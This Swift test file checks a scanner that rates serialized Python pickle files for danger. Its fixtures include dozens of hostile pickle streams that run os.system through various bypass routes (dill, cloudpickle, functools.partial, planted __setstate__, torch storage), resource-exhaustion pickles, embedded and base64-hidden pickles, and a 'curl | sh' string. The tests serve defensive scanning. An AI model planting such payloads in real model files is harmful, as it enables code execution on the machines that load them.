import AssayCore
import ByteParsing
import Scanning
import Testing

@Suite struct PickleJudgeTests {
    private func scan(_ text: String, name: String = "model.pkl") -> FileReport {
        let bytes = text.unicodeScalars.map { UInt8(truncatingIfNeeded: $0.value) }
        return FileScanner().scan(ByteRegion(bytes), path: name)
    }

    @Test(arguments: [
        ("direct call", "cos\nsystem\n(S'id'\ntR."),
        ("no STOP, no extension that says pickle", "cos\nsystem\n(S'id'\ntR"),
        ("INST", "(S'id'\nios\nsystem\n."),
        ("popped", "cos\nsystem\n(S'id'\ntR0N."),
        ("second stream behind padding", "N.\0\0\0\0cos\nsystem\n(S'id'\ntR."),
        ("behind a broken stream", "\u{80}\u{2}\u{FF}\u{FF}junk\u{80}\u{2}cos\nsystem\n(S'id'\ntR."),
        ("computed name", "coperator\nconcat\n(S'o'\nS's'\ntRS'system'\n\u{93}(S'id'\ntR."),
        ("getattr on a module", "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR."),
        (
            "name of characters",
            "cbuiltins\nstr.join\n(S''\n(cbuiltins\nchr\n(I111\ntRS's'\nltRS'system'\n\u{93}(S'id'\ntR."
        ),
        ("partial", "cfunctools\npartial\n(cos\nsystem\nS'id'\ntR."),
        ("planted __setstate__", "ca\nB\n)\u{81}}S'__setstate__'\ncos\nsystem\nsb."),
        ("partial by its state", "cfunctools\npartial\n)\u{81}(cos\nsystem\n(S'id'\nt}Ntb)R."),
        (
            "partial that gets another function",
            "cfunctools\npartial\n(cbuiltins\nprint\ntR(cos\nsystem\n(S'id'\nt}Ntb)R."
        ),
        ("given to a call by what holds it", "cm\nf\n(ca\nB\n)\u{81}}S'handler'\ncos\nsystem\nsbtR."),
        (
            "key of a partial that is called",
            "cfunctools\npartial\n)\u{81}(cbuiltins\nsorted\n)}S'key'\ncos\nsystem\nsNtb(](S'id'\netR."
        ),
        (
            "partial that gets a key by its state",
            "cfunctools\npartial\n(cbuiltins\nsorted\ntR(cbuiltins\nsorted\n((lS'id'\nat}S'key'\ncos\nsystem\nsNtb)R."
        ),
        ("input of Python 2", "c__builtin__\ninput\n(S'x'\ntR."),
        ("item of a module's names", "coperator\ngetitem\n(cos\n__dict__\nS'system'\ntR(S'id'\ntR."),
        (
            "item of the modules",
            "cbuiltins\ngetattr\n(coperator\ngetitem\n(csys\nmodules\nS'os'\ntRS'system'\ntR(S'id'\ntR."
        ),
        ("given to a function that is only high", "clogging\nsetLogRecordFactory\n(cos\nsystem\ntR."),
        ("planted method of an opcode", "ccollections\nUserList\n)\u{81}}S'extend'\ncos\nsystem\nsb(S'id'\ne."),
        ("code made by a type's name", "ccloudpickle.cloudpickle\n_builtin_type\n(S'CodeType'\ntR(tR."),
        ("type that dill evaluates", "cdill._dill\n_getattr\n(NS'a'\nS\"<method 'a' of 'exit()' objects>\"\ntR."),
        ("evaluated by dill", "cdill._dill\n_eval_repr\n(S'range(exit())'\ntR."),
        (
            "tensor's bytes in an old protocol",
            "ctorch.storage\n_load_from_bytes\n(c_codecs\nencode\n(Vcos\\u000asystem\\u000a(S'id'\\u000atR.\nVlatin1\ntRtR."
        ),
        (
            "class by a persistent id",
            "((S'module'\ncsubprocess\nPopen\nS'a.py'\nS'class A'\ntQ(S'id'\ntR."
        ),
        ("bound method", "ctypes\nMethodType\n(cos\nsystem\nS'id'\ntR)R."),
        (
            "bound method by a type's name",
            "ccloudpickle.cloudpickle\n_builtin_type\n(S'MethodType'\ntR(cos\nsystem\nS'id'\ntR."
        ),
        ("memory outside of an array", "cnumpy.lib.stride_tricks\nas_strided\n(NtR."),
        ("storage at an address", "ctorch\nUntypedStorage._new_with_weak_ptr\n(I4096\ntR."),
        ("text that SymPy evaluates", "csympy\nN\n(S'x'\ntR."),
        ("module by its name", "cdill._dill\n_import_module\n(S'os'\ntR."),
        ("module that nobody knows", "ccloudpickle.cloudpickle\nsubimport\n(S'payload'\ntR."),
        (
            "function of a module by its name",
            "cdill._dill\n_get_attr\n(cdill._dill\n_import_module\n(S'numpy'\ntRS'f2py.os.system'\ntR(S'id'\ntR."
        ),
        ("registered extension", "ccopyreg\nadd_extension\n(S'os'\nS'system'\nK\u{7}tR0\u{82}\u{7}(S'id'\ntR."),
    ])
    func runningCodeIsCritical(_ what: String, _ stream: String) {
        #expect(scan(stream, name: "weights.bin").severity == .critical, "\(what)")
    }

    @Test(arguments: [
        "(dp0\nS'a'\np1\nI1\ns.", "\u{80}\u{2}}q\0.", "ccollections\nOrderedDict\n)R.",
        "cbuiltins\nset\n((lp0\nI1\natR.", "cbuiltins\ntype\n(NtR.", "(lcbuiltins\ntype\na.",
        "coperator\nmethodcaller\n(S'strip'\ntR.",
        "cdateutil.tz._tzfile\n_unpickle\n(cdateutil.tz._tzfile\ntzfile\nS'a'\nNNtR.",
        "cbuiltins\ngetattr\n(cpendulum.tz.timezone\nTimezone\nS'_unpickle'\ntR(S'UTC'\nI1\ntR.",
        "ccloudpickle.cloudpickle\n_builtin_type\n(S'SimpleNamespace'\ntR)R.",
        "cdill._dill\n_load_type\n(S'ValueError'\ntR(S'x'\ntR.", "cdill._dill\n_load_type\n(S'list'\ntR.",
        "cdill._dill\n_getattr\n(cbuiltins\nstr\nS'upper'\nS\"<method 'upper' of 'str' objects>\"\ntR.",
        "cdill._dill\n_eval_repr\n(S'range(0, 3)'\ntR.", "cdill._dill\n_eval_repr\n(S'Ellipsis'\ntR.",
        "((S'module'\nctorch.nn\nLinear\nS'a.py'\nS'class Linear'\ntQ)\u{81}.",
        // Modules that objects hold, and functions of theirs, as dill and cloudpickle write them down.
        "cdill._dill\n_get_attr\n(cdill._dill\n_import_module\n(S'numpy.core.multiarray'\ntRS'_reconstruct'\ntR"
            + "(cnumpy\nndarray\n(I0\ntS'b'\ntR.",
        "ccloudpickle.cloudpickle\nsubimport\n(S'numpy'\ntR.",
        "cpytz\n_p\n(S'Europe/Berlin'\nI3180\nI0\nS'LMT'\ntR.",
        "cnumpy.core\n_ufunc_reconstruct\n(S'numpy'\nS'add'\ntR.",
        "ctorch.jit._pickle\nbuild_intlist\n((lI1\natR.",
        "ccloudpickle.cloudpickle\n_builtin_type\n(S'MethodType'\ntR(crandom\nRandom.gauss\ncrandom\nRandom\n)RtR.",
        "ctorch_geometric.data.batch\nDynamicInheritanceGetter\n)\u{81}(ctorch.nn\nLinear\ntR.",
        "((S'module'\nctransformers\nHfArgumentParser\nS'a.py'\nS'class A'\ntQ)\u{81}.",
        "cbuiltins\nlist\n(citertools\nrepeat\n(I1\nI3\ntRtR.", "cbuiltins\nbytes\n(I1024\ntR.",
        "coperator\nmul\n(I4294967296\nI4294967296\ntR.",
    ])
    func plainDataIsClean(_ stream: String) {
        #expect(scan(stream).severity < .low)
    }

    @Test(arguments: [
        "cbuiltins\nlist\n(citertools\ncount\n)RtR.", "cbuiltins\nbytes\n(I1099511627776\ntR.",
        "cbuiltins\nsum\n(cbuiltins\nmap\n(cmath\nsqrt\ncitertools\ncycle\n((lI1\natRtRtR.",
        "coperator\nmul\n(S'a'\nI1099511627776\ntR.",
        "cnumpy\nzeros\n((I1048576\nI1048576\nttR.", "chashlib\npbkdf2_hmac\n(S'sha1'\nNNI1099511627776\ntR.",
        "cmath\nfactorial\n(I1000000000\ntR.", "coperator\nlshift\n(I1\nI1099511627776\ntR.",
        "cbuiltins\ntuple\n(cbuiltins\nrange\n(I1099511627776\ntRtR.",
    ])
    func askingForTooMuchIsReported(_ stream: String) {
        #expect(scan(stream).findings.contains { $0.rule == "PICKLE-RESOURCE-ATTACK" && $0.severity == .medium })
    }

    @Test(arguments: ["ID", "sh", "Open trial", "DASH is a language", "a && b"])
    func labelsAreNoCommands(_ label: String) {
        #expect(scan("crdflib.term\nLiteral\n(S'\(label)'\ntR.").severity == .low)
        #expect(scan("crdflib.term\nLiteral\n(S'curl example.org | sh'\ntR.").severity == .high)
    }

    /// Arrays that joblib before 0.10 left in files beside the pickle.
    @Test(arguments: [
        ("cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\u{81}}S'filename'\nS'../../a.npy'\nsb.", Severity.medium),
        ("cjoblib.numpy_pickle\nZNDArrayWrapper\n(S'/srv/a.npy'\nNNtR}b.", .medium),
        ("cjoblib.numpy_pickle\nNDArrayWrapper\n)\u{81}}S'filename'\nS'~/a.npy'\nsb.", .low),
        ("cjoblib.numpy_pickle\nNDArrayWrapper\n)\u{81}}S'filename'\nS'm.pkl_01.npy'\nsb.", .none),
        ("cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\u{81}}S'filename'\nS'../a'\nsb.", .none),
    ])
    func arraysInOtherFilesLieBesideThePickle(_ stream: String, _ expected: Severity) {
        let found = scan(stream, name: "m.joblib").findings.filter { $0.rule == "PICKLE-FILE-ACCESS" }
        #expect(found.map(\.severity).max() ?? .none == expected, "\(stream)")
    }

    /// What joblib compressed is no pickle by its name: only what is in it is.
    @Test func compressedBytesAreNoBrokenPickle() {
        let bytes: [UInt8] = [
            120, 156, 107, 96, 153, 42, 196, 0, 1, 181, 83, 122, 24, 19, 167, 196, 78, 209, 240, 102, 244, 102, 242,
            102, 78, 45, 214, 3, 0, 93, 169, 6, 197,
        ]
        let report = FileScanner().scan(ByteRegion(bytes), path: "model.joblib")
        #expect(report.findings.isEmpty)
        #expect(report.format == "zlib")
    }

    /// A pickled torch module holds one pickle for each of its tensors.
    @Test func manyHarmlessPickledTensorsAreRead() {
        let storage = "\u{80}\u{2}]q\0(K\u{1}K\u{2}e."
        let one =
            "ctorch.storage\n_load_from_bytes\n(C" + String(UnicodeScalar(UInt8(storage.unicodeScalars.count)))
            + storage + "tR0"
        let report = scan("\u{80}\u{3}" + String(repeating: one, count: 600) + "N.")
        #expect(report.findings.isEmpty)
        #expect(report.incomplete.isEmpty)
    }

    @Test(arguments: [
        "low lo\nl o\nes t\n", "cat\ndog\nfish\n", "# Model card\n\nimport os\nos.system('id')\n", "N.B. this",
    ])
    func textIsNoPickle(_ text: String) {
        #expect(scan(text, name: "merges.txt").findings.filter { $0.rule.hasPrefix("PICKLE") }.isEmpty)
    }

    @Test func pickleInForeignContentIsReported() {
        let payload = "\u{80}\u{2}cos\nsystem\n(S'id'\ntR."
        let report = scan("PNG\0\u{89}" + String(repeating: "\0junk", count: 20) + payload, name: "image.png")
        #expect(report.findings.contains { $0.rule == "PICKLE-EMBEDDED" && $0.severity == .medium })
    }

    @Test func pickleInAConstantIsReported() {
        // Base64 of a protocol-2 pickle that calls os.system.
        let nested = "gAJjb3MKc3lzdGVtCihTJ2lkJwp0Ui4="
        let report = scan("\u{80}\u{2}X\u{20}\0\0\0" + nested + ".")
        #expect(report.findings.contains { $0.rule == "PICKLE-EMBEDDED" && $0.severity == .medium })
    }

    /// Text about a pickle, however the stream spells it; bytes and encoded text are no prose.
    @Test func proseAboutAPickleIsLow() {
        let found = { (stream: String) in
            self.scan(stream).findings.filter { $0.rule == "PICKLE-EMBEDDED" }.map(\.severity)
        }
        #expect(found("\u{80}\u{2}X\u{16}\0\0\0cos\nsystem\n(S'id'\ntR..") == [.low])
        #expect(found(#"Vcos\u000asystem\u000a(S'id'\u000atR."# + "\n.") == [.low])
        #expect(found("C\u{16}cos\nsystem\n(S'id'\ntR..") == [.medium])
    }

    @Test func objectArrayIsJudgedAsItsPickle() {
        let header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        let text = "\u{93}NUMPY\u{1}\0\u{38}\0" + header + "\u{80}\u{2}cos\nsystem\n(S'id'\ntR."
        #expect(scan(text, name: "array.npy").severity == .critical)
    }

    @Test(arguments: [".", "\u{80}\u{6}N.", "\u{80}\u{4}\u{8e}\0\0\0\0\0\0\0\u{40}"])
    func brokenPicklesAreNotClean(_ stream: String) {
        #expect(scan(stream).outcome != .clean)
    }

    /// Classes that DEAP makes while loading, functions that toolz fixes arguments of.
    @Test(arguments: [
        ("cdeap.creator\nmeta_create\n(S'Individual'\ncbuiltins\nlist\n(S'n'\nI1\ndtR)\u{81}.", Severity.low),
        ("cdeap.creator\nmeta_create\n(S'X'\ncos\nsystem\n(dtR(S'id'\ntR.", .critical),
        ("cdeap.creator\nmeta_create\n(S'X'\ncbuiltins\nlist\n(S'__len__'\ncos\nsystem\ndtR.", .critical),
        ("ctoolz.functoolz\n_restore_curry\n(ctoolz.functoolz\ncurry\nS'numpy:ones'\n(t(dN(ttR.", .low),
        ("ctoolz.functoolz\n_restore_curry\n(ctoolz.functoolz\ncurry\nS'os:system'\n(t(dN(ttR(S'id'\ntR.", .critical),
        ("ctoolz.functoolz\n_restore_curry\n(ctoolz.functoolz\ncurry\ncos\nsystem\n(t(dN(ttR(S'id'\ntR.", .critical),
    ])
    func whatACallMakesStandsForWhatItIsMadeOf(_ stream: String, _ severity: Severity) {
        let report = scan(stream)
        #expect(severity == .low ? report.severity <= .low : report.severity == severity, "\(stream)")
    }

    @Test(arguments: [
        "cdask._task_spec\nTaskRef\n(S'a'\ntR.", "cshapely.io\nfrom_wkb\n(S'a'\ntR.",
        "csqlalchemy.event.base\n_UnpickleDispatch\n)\u{81}(csqlalchemy.sql.schema\nTable\ntR.",
        "csqlalchemy.util._immutabledict_cy\nimmutabledict\n(}tR.", "cPIL.PngImagePlugin\nPngImageFile\n)\u{81}]b.",
        "cbitarray._bitarray\n_bitarray_reconstructor\n(cbitarray\nbitarray\nS'a'\nS'big'\nI0\nI0\ntR.",
    ])
    func constructorsOfPlainDataPass(_ stream: String) { #expect(scan(stream).severity < .medium, "\(stream)") }
}
